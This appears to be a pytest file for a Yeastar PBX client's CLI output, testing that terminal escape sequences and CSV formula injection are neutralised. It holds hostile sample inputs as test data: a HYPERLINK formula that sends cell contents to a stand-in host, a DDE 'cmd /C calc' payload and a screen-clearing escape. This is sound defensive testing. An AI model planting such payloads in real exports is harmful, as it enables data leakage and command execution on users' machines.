"""Names that would act on a terminal, in each form of the output."""

from __future__ import annotations

import csv
import io
import json
import sys
from typing import Any

import pytest

from yeastar_pseries._runtime.catalog.catalog import load_catalog
from yeastar_pseries._runtime.cli.output.codes import in_commands
from yeastar_pseries._runtime.cli.output.fields import wanted
from yeastar_pseries._runtime.cli.output.options import Chosen
from yeastar_pseries._runtime.cli.output.progress import bars
from yeastar_pseries._runtime.cli.output.show import Shown, show_answer, show_rows
from yeastar_pseries._runtime.cli.start import _prepare_streams

NAME = "Zo\u00eb \x1b[2J\x9b31m\u202eabc\u2028\U000e0041"


def shown(form: Chosen) -> Shown:
    catalog = load_catalog()
    known = catalog.fields(catalog["extension.list"])
    return Shown(format=form, wanted=wanted(None, known, "extension list"))


@pytest.mark.parametrize("form", ["json", "jsonl"])
@pytest.mark.parametrize("rows", [True, False])
def test_json_turns_no_terminal_around_and_says_the_same(
    form: Chosen, rows: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    row: dict[str, Any] = {"name": NAME + "\ud800", NAME: [NAME]}
    if rows:
        show_rows([row], shown(form))
    else:
        show_answer(row, shown(form))
    text = capsys.readouterr().out
    assert text.replace("\n", "").isprintable()
    assert "Zo\u00eb" in text
    came = json.loads(text)
    assert (came[0] if isinstance(came, list) else came) == row


@pytest.mark.parametrize("terminal", [True, False])
def test_csv_acts_on_no_terminal_and_a_file_has_what_came(
    terminal: bool,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(sys.stdout, "isatty", lambda: terminal, raising=False)
    row: dict[str, Any] = {"name": NAME, NAME: {"inner": NAME}, "n": 1, "none": None}
    show_rows([row], shown("csv"))
    text = capsys.readouterr().out
    assert text.replace("\n", "").isprintable() is terminal
    head, cells = csv.reader(io.StringIO(text))
    assert cells[2:] == ["1", ""]
    if not terminal:
        assert head == list(row)
        assert cells[0] == NAME
        assert json.loads(cells[1]) == row[NAME]


@pytest.mark.parametrize(
    ("came", "written"),
    [
        ('=HYPERLINK("http://x.example/"&A1)', "'="),
        ("+1+cmd|' /C calc'!A0", "'+"),
        ("-Nobody", "'-"),
        ("@SUM(A1:A9)", "'@"),
        ("\t=1", "'\t'="),
        ("\rx", "'\rx"),
        ("\0=1", "'\0"),
        ("\uff1d1+1", "'\uff1d"),
        (" =1+1", " '="),
        # A spreadsheet that wants semicolons pays no heed to quotes within a line.
        ("Ada;=1+1", "Ada;'="),
        ("Ada\n=1+1", "Ada\n'="),
        ("Ada\t +x()", "Ada\t '+"),
        # And a pair of them at the start of a cell ends what is quoted.
        ('Ada;"=1+1"', "Ada;\"'="),
        ('Ada; ""@x', 'Ada; ""\'@'),
    ],
)
def test_no_name_is_a_formula_in_a_spreadsheet(
    came: str, written: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """It came as it was, and callers write their names themselves."""
    show_rows([{"name": came, came: 1}], shown("csv"))
    head, cells = csv.reader(io.StringIO(capsys.readouterr().out, newline=""))
    assert cells[0].startswith(written)
    assert cells[0].replace("'", "") == came.replace("'", "")
    assert head[1] == cells[0]


@pytest.mark.parametrize(
    "came",
    [
        "+4915112345678", "+49 (151) 123-45", "-5", "-", "*97", "1+1=2", "a@b.example",
        "Jean-Luc", "Ada; -5", 'Ada;"x"', '"=', "", "O'Hara = Mr", -5, -1.5, {"x": [-1, "=1", "a;b"]},
    ],
)  # fmt: skip
def test_numbers_and_other_texts_stay_as_they_are_in_csv(
    came: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    show_rows([{"a": came, "b": 1}], shown("csv"))
    _, (text, _) = csv.reader(io.StringIO(capsys.readouterr().out))
    assert (json.loads(text) if isinstance(came, dict) else text) == (
        came if isinstance(came, dict) else str(came)
    )


def test_a_column_that_comes_late_is_told_without_acting(
    capsys: pytest.CaptureFixture[str],
) -> None:
    rows: list[dict[str, Any]] = [{"name": "a"}] * 100 + [{"name": "b", NAME: 1}]
    show_rows(rows, shown("csv"))
    said = capsys.readouterr().err
    assert said.startswith("not in the file, since the first rows lack it: Zo")
    assert said.rstrip("\n").isprintable()


def test_a_bar_and_the_note_of_a_table_act_on_no_terminal(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The name of a recording cleared the screen."""
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True, raising=False)
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setenv("COLUMNS", "200")
    with bars() as made:
        made.add_task(f"1 of 1: {NAME}", total=1)
        made.refresh()
    assert "\x1b[2J" not in (said := capsys.readouterr().err)
    assert "Zo\u00eb \\x1b[2J" in said
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True, raising=False)
    monkeypatch.setenv("COLUMNS", "20")
    show_rows([{"a": "x" * 20, NAME: 1}], shown("table"))
    said = capsys.readouterr().err
    assert "not shown: Zo" in said
    assert "\x1b[2J" not in said


def test_a_closed_stream_takes_what_no_encoding_has(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Half of a character was a fault of this program there."""
    monkeypatch.setattr(sys, "stdout", None)
    monkeypatch.setattr(sys, "stderr", None)
    _prepare_streams()
    for stream in (sys.stdout, sys.stderr):
        with stream:
            stream.write("\ud800")


def test_advice_about_the_clock_is_none_for_a_shell() -> None:
    """`cdr sync` told of an argument that no command has."""
    told = in_commands("odd; give PbxClock(date_format, time_format, zone) yourself")
    assert told == "odd; tell its formats in Python, where PbxClock takes them"
